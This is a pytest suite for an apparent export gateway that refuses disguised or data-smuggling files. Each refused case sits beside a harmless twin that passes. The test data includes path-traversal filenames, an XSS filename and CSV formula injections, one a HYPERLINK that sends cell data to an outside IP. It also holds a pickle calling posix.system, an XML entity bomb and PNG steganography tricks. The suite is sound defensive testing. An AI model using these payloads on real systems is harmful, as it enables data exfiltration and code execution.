"""Files that try to leave as something else (THREATS, Files at the airlock), each beside its honest twin.

An attack stays refused with its code; its twin, as like it as can be, leaves. The list grows for ever.
"""

import io
import zipfile
import zlib
from collections.abc import Mapping, Sequence
from dataclasses import dataclass

import pytest

from enclave.core.permit import Permit
from enclave.core.refusal import Refused
from enclave.disclosure.answers.table import ProtectedTable
from enclave.disclosure.criteria.rules import RuleSet, parse
from enclave.export.flow import check
from enclave.export.history import Matched
from enclave.export.request import FigureItem, Finding, Item, Submission, TableItem, Verdict
from tests.attacks.files.pictures import chunk, header, picture, pixels
from tests.fakes.custody_site import a_permit

OUTPUTS = [{"id": "t1", "kind": "table", "title": "…", "dimensions": ["sex"]}]
SAFE = b"sex,n\nf,120\nm,95\n"
RULES: tuple[RuleSet, ...] = (
    parse(
        {
            "id": "example",
            "valid_from": "2024-01-01",
            "valid_to": None,
            "source": "test",
            "scope": {"databases": ["*"]},
            "min_persons": {"n": 10, "zero": "shown"},
        }
    ),
)


def permit() -> Permit:
    return a_permit(outputs=OUTPUTS)


def nothing(receipt: str) -> ProtectedTable:
    raise Refused("query.unknown")


def first_ever(matched: Sequence[Matched], _: Sequence[int]) -> Mapping[int, Sequence[Finding]]:
    """Nothing left before."""
    return {}


def table(
    data: bytes, name: str = "table.csv", counts: Sequence[str] = ("n",), sex: str = "sex"
) -> TableItem:
    return TableItem(name, data, (sex,), tuple(counts))


def figure(data: bytes, name: str = "figure.png") -> FigureItem:
    return FigureItem(name, data, table(SAFE, "figure.csv"))


def codes(*items: Item) -> dict[str, Verdict]:
    """Every finding's code with the gravest verdict it came with."""
    checked = check(Submission("t1", "a poster", items), permit(), RULES, nothing, first_ever)
    found: dict[str, Verdict] = {}
    for file in checked.files:
        for finding in file.findings:
            if found.get(finding.code) is not Verdict.FAIL:
                found[finding.code] = finding.verdict
    return found


def zipped() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("records.csv", "pid,age\n1,50\n")
    return packed.getvalue()


@dataclass(frozen=True)
class Case:
    """An attack, the code it gets, and the twin that leaves."""

    attack: Item
    code: str
    twin: Item


ROWS = b"sex,n\n" + b"".join(b"r%d,50\n" % n for n in range(5001))
BASE64 = b"AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8gISIjJCUmJygpKissLS4vMDEyMzQ1Njc4OTo7PD0+Pw=="

CASES: dict[str, Case] = {
    # -- names ------------------------------------------------------------------------------
    "a path that climbs": Case(table(SAFE, "../../etc/cron.csv"), "export.name", table(SAFE, "cron.csv")),
    "an absolute path": Case(table(SAFE, "/etc/passwd.csv"), "export.name", table(SAFE, "passwd.csv")),
    "a Windows path": Case(table(SAFE, "C:\\results.csv"), "export.name", table(SAFE, "C-results.csv")),
    "a NUL in the name": Case(table(SAFE, "table.csv\0.exe"), "export.name", table(SAFE, "tablecsv-exe.csv")),
    "a name that reads from right to left": Case(
        table(SAFE, "table\u202evsc.exe"), "export.name", table(SAFE, "table-exe.csv")
    ),
    "an invisible letter": Case(table(SAFE, "ta\u200bble.csv"), "export.name", table(SAFE, "ta-ble.csv")),
    "a Cyrillic look-alike": Case(table(SAFE, "tаble.csv"), "export.name", table(SAFE, "table.csv")),
    "a Greek look-alike": Case(table(SAFE, "tαble.csv"), "export.name", table(SAFE, "表-性別.csv")),
    "wide letters": Case(table(SAFE, "ｔａｂｌｅ.csv"), "export.name", table(SAFE, "人数（全国）.csv")),
    "kana not composed": Case(table(SAFE, "か\u3099.csv"), "export.name", table(SAFE, "が.csv")),
    "a device's name": Case(table(SAFE, "CON.csv"), "export.name", table(SAFE, "CONTROL.csv")),
    "a hidden file": Case(table(SAFE, ".profile.csv"), "export.name", table(SAFE, "profile.csv")),
    "two extensions": Case(table(SAFE, "table.html.csv"), "export.name", table(SAFE, "table-html.csv")),
    "a name without end": Case(table(SAFE, "a" * 300 + ".csv"), "export.name", table(SAFE, "a" * 90 + ".csv")),
    "a line break in the name": Case(table(SAFE, "a\nb.csv"), "export.name", table(SAFE, "a b.csv")),
    "markup in the name": Case(
        table(SAFE, "<img src=x onerror=alert(1)>.csv"), "export.name", table(SAFE, "img src.csv")
    ),
    # -- what is not what it is called -------------------------------------------------------
    "a program called a table": Case(
        table(b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0"), "export.csv_encoding", table(b"sex,n\nMZ,10\n")
    ),
    "an ELF called a table": Case(
        table(b"\x7fELF\x02\x01\x01\0\0"), "export.csv_encoding", table(b"sex,n\nELF,10\n")
    ),
    "a picture called a table": Case(table(picture()), "export.extension", figure(picture())),
    "a table called a picture": Case(figure(SAFE), "export.extension", table(SAFE)),
    "a workbook called a table": Case(table(zipped()), "export.csv_encoding", table(b"sex,n\nPK,10\n")),
    "a workbook by its own name": Case(table(SAFE, "table.xlsx"), "export.extension", table(SAFE, "table.csv")),
    "a pickle": Case(
        table(b"\x80\x04\x95\x1c\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94."),
        "export.csv_encoding",
        table(b"sex,n\nposix,10\n"),
    ),
    "a notebook": Case(
        table(b'{"cells": [{"outputs": [{"data": {"text/plain": ["pid 17"]}}]}]}', "book.ipynb"),
        "export.extension",
        table(SAFE, "book.csv"),
    ),
    "an SVG with a script": Case(
        figure(b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        "export.png_form",
        figure(picture()),
    ),
    "an XML bomb": Case(
        table(b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;">]><a>&c;</a>'),
        "export.extension",
        table(b'sex,n\n"<a>",10\n'),
    ),
    "a PDF": Case(figure(b"%PDF-1.7\n/EmbeddedFiles"), "export.png_form", figure(picture())),
    # -- tables -----------------------------------------------------------------------------
    "not UTF-8": Case(table("性,n\n男,10\n".encode("cp932"), sex="性"), "export.csv_encoding",
                      table("性,n\n男,10\n".encode(), sex="性")),
    "UTF-16": Case(table("sex,n\nf,10\n".encode("utf-16")), "export.csv_encoding", table(b"sex,n\nf,10\n")),
    "a byte order mark": Case(table(b"\xef\xbb\xbf" + SAFE), "export.csv_encoding", table(SAFE)),
    "a NUL inside": Case(table(b"sex,n\nf\0,10\n"), "export.csv_encoding", table(b"sex,n\nf,10\n")),
    "a terminal's escape": Case(table(b"sex,n\n\x1b[2Jf,10\n"), "export.csv_encoding", table(b"sex,n\n[2Jf,10\n")),
    "a second header's width": Case(table(b"sex,n\nf,10\npid,age,bmi\n1,2,3\n"), "export.csv_form",
                                    table(b"sex,n\nf,10\npid,11\n")),
    "a quote that never closes": Case(table(b'sex,n\n"f,10\nm,20\n'), "export.csv_form", table(b'sex,n\n"f",10\n')),
    "a column without a name": Case(table(b"sex,n,\nf,10,secret\n"), "export.csv_form", table(b"sex,n,x\nf,10,a\n")),
    "two columns of one name": Case(table(b"sex,n,n\nf,10,3\n"), "export.csv_form", table(b"sex,n,m\nf,10,x\n")),
    "lines that only some programs see": Case(table(b"sex,n\rf,10\r"), "export.csv_form",
                                             table(b"sex,n\r\nf,10\r\n")),
    "a formula": Case(table(b'sex,n\n"=HYPERLINK(""http://198.51.100.7/""&A2)",10\n'), "export.csv_formula",
                      table(b'sex,n\n"HYPERLINK (text)",10\n')),
    "a formula by plus": Case(table(b"sex,n\n+cmd|' /C calc'!A0,10\n"), "export.csv_formula",
                              table(b"sex,n\n+5,10\n")),
    "a formula by minus": Case(table(b"sex,n\n-1+cmd(),10\n"), "export.csv_formula", table(b"sex,n\n-1.5e3,10\n")),
    "a formula by at": Case(table(b"sex,n\n@SUM(A1),10\n"), "export.csv_formula", table(b"sex,n\nSUM at A1,10\n")),
    "a formula after a tab": Case(table(b"sex,n\n\t=1+1,10\n"), "export.csv_formula", table(b"sex,n\nx = 1,10\n")),
    "a formula after a space": Case(table(b"sex,n\n =1+1,10\n"), "export.csv_formula", table(b"sex,n\n 1+1,10\n")),
    "a wide formula": Case(table("sex,n\n＝1+1,10\n".encode()), "export.csv_formula",
                           table("sex,n\n１＋１,10\n".encode())),
    "a formula in the header": Case(
        table(b"=1+1,n\nf,10\n", sex="=1+1"), "export.csv_formula", table(b"sum,n\nf,10\n", sex="sum")
    ),
    "text that reads from right to left": Case(table("sex,n\n\u202e01,10\n".encode()), "export.csv_hidden_text",
                                               table(b"sex,n\n01,10\n")),
    "text of no width": Case(table("sex,n\nf\u200b\u200c\u200b,10\n".encode()), "export.csv_hidden_text",
                             table(b"sex,n\nf,10\n")),
    "a line inside a cell": Case(table(b'sex,n\n"f\n1,2,3",10\n'), "export.csv_hidden_text",
                                 table(b'sex,n\n"f 1,2,3",10\n')),
    "a base64 column": Case(table(b"sex,n,note\nf,10," + BASE64 + b"\n"), "export.csv_packed",
                            table(b"sex,n,note\nf,10,standardised to the national population\n")),
    "a hexadecimal column": Case(table(b"sex,n,note\nf,10," + b"0a1b2c3d" * 6 + b"\n"), "export.csv_packed",
                                 table(b"sex,n,note\nf,10,0a1b2c3d\n")),
    "records in one number": Case(table(b"sex,n\nf,10\nx,999\n".replace(b"999", b"1" * 40)), "export.csv_packed",
                                  table(b"sex,n\nf,10\nx,999\n")),
    "a cell without end": Case(table(b"sex,n,note\nf,10," + b"a " * 600 + b"\n"), "export.csv_long_cell",
                               table(b"sex,n,note\nf,10," + b"a " * 400 + b"\n")),
    "a line of a megabyte": Case(table(b"sex,n\n" + b"f" * (1 << 20) + b",10\n"), "export.size", table(SAFE)),
    "too many rows": Case(table(ROWS), "export.rows", table(ROWS[:2000].rpartition(b"\n")[0] + b"\n")),
    "too many columns": Case(
        table(b",".join([b"sex", b"n", *(b"c%d" % n for n in range(300))]) + b"\n"), "export.columns",
        table(b",".join([b"sex", b"n", *(b"c%d" % n for n in range(50))]) + b"\n")),
    "pseudonyms": Case(table(b"sex,n,pid\nf,10,4242\n"), "export.identifier", table(b"sex,n,pit\nf,10,stop\n")),
    "pseudonyms of the case": Case(table(b"sex,n,case_pid\nf,10,42\n"), "export.identifier",
                                   table(b"sex,n,cases\nf,10,x\n")),
    "a dimension that is not there": Case(table(b"gender,n\nf,10\n"), "export.declared_column", table(SAFE)),
    "a small cell": Case(table(b"sex,n\nf,120\nm,3\n"), "disclosure.small_cell", table(SAFE)),
    "a receipt that is nobody's": Case(TableItem("a.csv", SAFE, ("sex",), ("n",), "q-1"), "export.receipt_unknown",
                                       table(SAFE)),
    # -- pictures ---------------------------------------------------------------------------
    "an archive after the picture": Case(figure(picture(after=zipped())), "export.png_form", figure(picture())),
    "bytes after the picture": Case(figure(picture(after=b"\0")), "export.png_form", figure(picture())),
    "a second picture after the first": Case(figure(picture(after=picture())), "export.png_form", figure(picture())),
    "a text chunk": Case(figure(picture(first=chunk(b"tEXt", b"Comment\0pid,age 1,50"))), "export.png_chunk",
                         figure(picture(first=chunk(b"pHYs", b"\0\0\x0b\x13\0\0\x0b\x13\x01")))),
    "a packed text chunk": Case(figure(picture(first=chunk(b"zTXt", b"a\0\0" + zlib.compress(b"secret")))),
                                "export.png_chunk", figure(picture())),
    "an international text chunk": Case(figure(picture(between=chunk(b"iTXt", b"a\0\0\0\0\0x"))), "export.png_chunk",
                                        figure(picture())),
    "a photograph's notes": Case(figure(picture(first=chunk(b"eXIf", b"MM\0*"))), "export.png_chunk",
                                 figure(picture(first=chunk(b"gAMA", b"\0\0\xb1\x8f")))),
    "a colour profile": Case(figure(picture(first=chunk(b"iCCP", b"p\0\0" + zlib.compress(b"x" * 99)))),
                             "export.png_chunk", figure(picture(first=chunk(b"sRGB", b"\0")))),
    "an animation": Case(figure(picture(first=chunk(b"acTL", b"\0\0\0\x02\0\0\0\0"))), "export.png_chunk",
                         figure(picture())),
    "a chunk of one's own": Case(figure(picture(first=chunk(b"daTa", b"pid 1"))), "export.png_chunk",
                                 figure(picture())),
    "two palettes": Case(
        figure(picture(first=chunk(b"PLTE", b"abc") * 2)), "export.png_form", figure(picture())),
    "pixels in two streams": Case(figure(picture(packed=zlib.compress(pixels()) + zlib.compress(b"secret"))),
                                  "export.png_form", figure(picture())),
    "more pixels than there is room for": Case(figure(picture(packed=zlib.compress(pixels() + b"secret"))),
                                               "export.png_form", figure(picture())),
    "fewer pixels": Case(figure(picture(packed=zlib.compress(pixels()[:-1]))), "export.png_form", figure(picture())),
    "a bomb of pixels": Case(figure(picture(packed=zlib.compress(bytes(50_000_000), 9))), "export.png_form",
                             figure(picture())),
    "a picture of a million sides": Case(figure(picture(head=header(1_000_000, 1_000_000))), "export.png_form",
                                         figure(picture())),
    "a wrong checksum": Case(figure(picture().replace(b"IEND\xaeB`\x82", b"IEND\0\0\0\0")), "export.png_form",
                             figure(picture())),
    "no end": Case(figure(picture(end=b"")), "export.png_form", figure(picture())),
    "an end with a message": Case(figure(picture(end=chunk(b"IEND", b"secret"))), "export.png_form",
                                  figure(picture())),
    "a line filter that is none": Case(figure(picture(packed=zlib.compress(b"\x07" + pixels()[1:]))),
                                       "export.png_form", figure(picture())),
    "an interlaced picture": Case(figure(picture(head=header(interlace=1))), "export.png_form", figure(picture())),
    "a picture over an unsafe table": Case(
        FigureItem("f.png", picture(), table(b"sex,n\nf,3\n", "f.csv")), "export.data_failed", figure(picture())),
}  # fmt: skip


@pytest.mark.parametrize("name", CASES)
def test_an_attack_is_turned_back_with_its_code(name: str) -> None:
    found = codes(CASES[name].attack)
    assert found.get(CASES[name].code) is Verdict.FAIL, found


@pytest.mark.parametrize("name", CASES)
def test_its_honest_twin_leaves(name: str) -> None:
    found = codes(CASES[name].twin)
    assert Verdict.FAIL not in found.values(), found


def test_two_names_that_look_alike_are_one_too_many() -> None:
    assert codes(table(SAFE, "a.csv"), table(SAFE, "A.csv"))["export.name_twice"] is Verdict.FAIL
    assert "export.name_twice" not in codes(table(SAFE, "a.csv"), table(SAFE, "b.csv"))


def test_a_table_of_records_without_counts_is_for_people_to_judge() -> None:
    """Rows that look like an aggregate but say of nobody how many they stand for are never passed by a machine."""
    rows = b"sex,bmi\n" + b"".join(b"f,%d.5\n" % n for n in range(150))
    found = codes(TableItem("t.csv", rows, ("sex",), ()))
    assert found["export.looks_like_records"] is Verdict.HUMAN
    assert found["disclosure.no_evidence"] is Verdict.HUMAN


def test_what_hides_in_the_pixels_of_a_picture_is_redrawn_away() -> None:
    """Colours under full transparency leave no trace in what is kept."""
    from enclave.gateway.pictures import redrawn

    secret = bytes(range(1, 49))
    lines = b"".join(
        b"\0" + b"".join(secret[(y * 4 + x) * 3 : (y * 4 + x) * 3 + 3] + b"\0" for x in range(4))
        for y in range(4)
    )
    hiding = picture(head=header(colour=6), packed=zlib.compress(lines))
    blank = picture(head=header(colour=6), packed=zlib.compress((b"\0" + b"\xff\xff\xff\0" * 4) * 4))
    assert redrawn(hiding) == redrawn(blank)
    assert redrawn(redrawn(hiding)) == redrawn(hiding)
